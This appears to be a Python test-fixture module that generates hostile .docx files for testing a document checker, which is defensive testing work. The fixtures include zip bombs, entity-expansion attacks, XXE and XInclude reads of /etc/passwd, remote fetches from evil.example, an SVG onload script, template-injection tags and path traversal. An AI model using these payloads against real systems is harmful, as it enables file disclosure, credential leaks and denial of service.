"""Documents that cost, hide, fetch or lie, beyond those of `hostile`: each must be refused by the check, and be
harmless where nobody checked."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from tests.documents.hostile import RELATIONS, TEXT, pointing, typed, with_field
from tests.documents.templates import (
    WORDS,
    blank,
    changed,
    in_body,
    in_first_run,
    repacked,
    saved,
    split_runs,
    template,
    with_part,
)

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
TAG = "{{ name.__class__ }}"


def paragraphs(count: int) -> bytes:
    """As many paragraphs, each different, so that they compress like a real text."""
    numbers = random.Random(4)  # noqa: S311 - the same document each time
    return in_body(template(TEXT), "".join(f'<w:p w:rsidR="{numbers.getrandbits(32):08X}"/>' for _ in range(count)))


def noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)  # noqa: S311 - the same document each time


def part_of_words(kind: str, xml: str) -> bytes:
    content = f'<w:{kind} xmlns:w="{WORDS}">{xml}</w:{kind}>'.encode()
    return with_part(template(TEXT), f"word/{kind}.xml", content, f"{_WORD}.{kind}+xml", kind)


def nested(kind: str, times: int, inside: str = "<w:p/>") -> bytes:
    return in_body(template(TEXT), f"<w:{kind}>" * times + inside + f"</w:{kind}>" * times)


def tables(times: int) -> bytes:
    opening = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>"
    return in_body(template(TEXT), opening * times + "<w:p/>" + "</w:tc></w:tr></w:tbl><w:p/>" * times)


def wide_cell() -> bytes:
    document = blank()
    cell = document.add_table(1, 1).rows[0].cells[0]
    span = OxmlElement("w:gridSpan")
    span.set(qn("w:val"), "999999999")
    cell._tc.get_or_add_tcPr().append(span)
    return saved(document)


def numbered(start: int, kind: str) -> bytes:
    document = blank()
    document.add_paragraph("Un", style="List Number")
    return changed(
        saved(document),
        "word/numbering.xml",
        lambda xml: xml.replace('<w:start w:val="1"/>', f'<w:start w:val="{start}"/>').replace(
            '<w:numFmt w:val="decimal"/>', f'<w:numFmt w:val="{kind}"/>'
        ),
    )


def settings(xml: str) -> bytes:
    return changed(template(TEXT), "word/settings.xml", lambda old: old.replace("</w:settings>", f"{xml}</w:settings>"))


def entities() -> bytes:
    grows = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    head = f'<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">{grows}]>'
    docx = in_first_run(template(TEXT), "<w:t>&a12;</w:t>")
    return changed(docx, "word/document.xml", lambda xml: xml.replace("<w:document", f"{head}<w:document", 1))


def reading(file: str) -> bytes:
    """The text of a file as an entity, where the text of the letter is."""
    docx = in_first_run(template(TEXT), "<w:t>&a;</w:t>")
    head = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{file}">]>'
    return changed(docx, "word/document.xml", lambda xml: xml.replace("<w:document", f"{head}<w:document", 1))


def including(file: str) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>'
    return in_body(template(TEXT), include)


def png(width: int, height: int, content: bytes = b"") -> bytes:
    def chunk(kind: bytes, inside: bytes) -> bytes:
        return struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", zlib.crc32(kind + inside))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" + b"\0" * ((width + 7) // 8)
    points = content or zlib.compress(row * height, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def with_image(content: bytes) -> bytes:
    document = blank()
    document.add_picture(io.BytesIO(png(1, 1)))
    return repacked(saved(document), {"word/media/image1.png": content})


def compressed(method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template(TEXT))) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def lying() -> bytes:
    """A zip whose table says that the text is short."""
    docx = bytearray(repacked(template(TEXT), {"word/styles9.xml": b"<x>" + b" " * 50_000_000 + b"</x>"}))
    at = docx.rfind(b"PK\x01\x02", 0, docx.rfind(b"word/styles9.xml"))
    docx[at + 24 : at + 28] = struct.pack("<I", 90)
    return bytes(docx)


def in_look(xml: str) -> bytes:
    return changed(
        template(TEXT), "word/document.xml", lambda old: old.replace("<w:r>", f"<w:r><w:rPr>{xml}</w:rPr>", 1)
    )


def footer_of_itself() -> bytes:
    """A footer that is the text itself."""
    arrow = (
        '<Relationship Id="rIdSelf" Target="document.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footer"/>'
    )
    docx = changed(template(TEXT), RELATIONS, lambda xml: xml.replace("</Relationships>", f"{arrow}</Relationships>"))
    reference = '<w:footerReference w:type="default" r:id="rIdSelf"/>'
    return changed(docx, "word/document.xml", lambda xml: xml.replace("<w:sectPr", "<w:sectPr", 1).replace(
        "<w:pgSz", f"{reference}<w:pgSz", 1))  # fmt: skip


BOMBS: dict[str, Callable[[], bytes]] = {
    "a million paragraphs that are all alike": lambda: in_body(template(TEXT), "<w:p/>" * 1_000_000),
    "three hundred thousand paragraphs": lambda: paragraphs(300_000),
    "a long attribute": lambda: in_body(template(TEXT), f'<w:p w:rsidR="{noise(6_000_000).hex()}"/>'),
    "elements nested ten thousand times": lambda: nested("sdt", 10_000),
    "elements nested two hundred times": lambda: nested("sdtContent", 200, "<w:object/>"),
    "tables inside tables": lambda: tables(40),
    "a cell a billion columns wide": wide_cell,
    "a list that begins at a billion in Roman numbers": lambda: numbered(999_999_999, "upperRoman"),
    "a list that begins at a billion in letters": lambda: numbered(999_999_999, "lowerLetter"),
    "a page of a thousand kilometres": lambda: changed(
        template(TEXT), "word/document.xml", lambda xml: xml.replace('w:w="11906"', 'w:w="999999999"')
    ),
    "a letter a kilometre high": lambda: in_look('<w:sz w:val="99999999"/>'),
    "entities that grow": entities,
    "a file of the system as an entity": lambda: reading("/etc/passwd"),
    "a file of the system included": lambda: including("/etc/passwd"),
    "a style sheet of another program": lambda: changed(
        template(TEXT),
        "word/document.xml",
        lambda xml: xml.replace("<w:document", '<?xml-stylesheet href="https://evil.example/x.xsl"?><w:document', 1),
    ),
    "a picture of nine hundred million points": lambda: with_image(png(30_000, 30_000, zlib.compress(b"\0"))),
    "a picture that stops in the middle": lambda: with_image(png(3, 3)[:-9]),
    "a drawing that is a program": lambda: with_image(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    "an old metafile": lambda: typed("word/media/image7.emf", b"\x01\0\0\0", "image/x-emf"),
    "another compression": lambda: compressed(zipfile.ZIP_LZMA),
    "a table of contents that lies": lying,
    "a zip inside": lambda: repacked(template(TEXT), {"word/more.zip": template(TEXT)}),
    "a mail merge": lambda: settings('<w:mailMerge><w:query w:val="SELECT * FROM x"/></w:mailMerge>'),
    "a subdocument": lambda: pointing("subDocument", "https://evil.example/x.docx"),
    "a picture field in a header": lambda: with_field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png" \\d'),
    "a macro button": lambda: with_field("MACROBUTTON AutoOpen Cliquez"),
    "a link field": lambda: with_field('HYPERLINK "file:///etc/passwd"'),
    "a database field": lambda: with_field("DATABASE \\d x"),
    "a formula field": lambda: with_field("= 9^9"),
    "a glossary": lambda: with_part(
        template(TEXT),
        "word/glossary/document.xml",
        f'<w:glossaryDocument xmlns:w="{WORDS}"/>'.encode(),
        f"{_WORD}.document.glossary+xml",
        "glossaryDocument",
    ),
    "an embedded font": lambda: typed(
        "word/fonts/font1.odttf", b"\0", "application/vnd.openxmlformats-officedocument.obfuscatedFont"
    ),
    "a tag in custom data": lambda: typed("customXml/item1.xml", f"<x>{TAG}</x>".encode(), "application/xml"),
    "a tag in custom properties": lambda: typed(
        "docProps/custom.xml", f"<x>{TAG}</x>".encode(),
        "application/vnd.openxmlformats-officedocument.custom-properties+xml",
    ),
    "a tag in an endnote": lambda: part_of_words(
        "endnotes", f'<w:endnote w:id="1"><w:p><w:r><w:t>{TAG}</w:t></w:r></w:p></w:endnote>'
    ),
    "a tag in a comment of Word": lambda: part_of_words("comments", TAG),
    "a tag in a style": lambda: changed(
        template(TEXT), "word/styles.xml", lambda xml: xml.replace('w:val="Normal"', f'w:val="{TAG}"', 1)
    ),
    "a tag in a link": lambda: pointing("hyperlink", "https://example.org/{{name}}"),
    "a tag in an attribute": lambda: in_body(template(TEXT), '<w:p><w:pPr><w:jc w:val="{{ name }}"/></w:pPr></w:p>'),
    "a tag in the name of a bookmark": lambda: in_body(
        template(TEXT), '<w:p><w:bookmarkStart w:id="1" w:name="{{ name }}"/></w:p>'
    ),
    "a tag in a comment nobody sees": lambda: in_body(template(TEXT), "<!-- {{ name }} -->"),
    "a tag in an instruction nobody sees": lambda: in_body(template(TEXT), "<?x {{ name }} ?>"),
    "a tag in a page number": lambda: in_body(
        template(TEXT), '<w:p><w:fldSimple w:instr="PAGE {{ name }}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    ),
    "a tag in hidden text": lambda: in_body(
        template(TEXT), "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{{ name }}</w:t></w:r></w:p>"
    ),
    "a tag in a text box": lambda: in_first_run(
        template(TEXT), "<w:pict><w:txbxContent><w:p><w:r><w:t>{{ name }}</w:t></w:r></w:p></w:txbxContent></w:pict>"
    ),
    "a tag in deleted text": lambda: in_body(
        template(TEXT), '<w:p><w:del w:id="1"><w:r><w:delText>{{ name }}</w:delText></w:r></w:del></w:p>'
    ),
    "a tag that is printed as it is": lambda: template("{% raw %}{{ name }}{% endraw %}"),
    "a tag that writes into the construction": lambda: template("{{r name }}"),
    "a tag that moves columns": lambda: template("{% colspan many %}{{ name }}"),
    "a tag that paints cells": lambda: template("{% cellbg name %}"),
    "an extension that does": lambda: template("{% do many.append(1) %}"),
    "an extension that breaks": lambda: template("{% for x in many %}{% break %}{% endfor %}"),
    "an extension that translates": lambda: template("{% trans %}{{ name }}{% endtrans %}"),
    "an extension that tells everything": lambda: template("{% debug %}"),
    "curly quotes around a name": lambda: template("{{ name[‘__class__’] }}"),
    "a tag over three runs": lambda: split_runs("{", "{ name.__class__ }", "}"),
    "a clause that is not there": lambda: template("{%p clause nothing %}"),
    "a clause outside its folder": lambda: template("{%p clause ../../../etc/passwd %}"),
    "a clause that is computed": lambda: template("{%p clause name.__class__ %}"),
    "a footer that is the text": footer_of_itself,
}  # fmt: skip
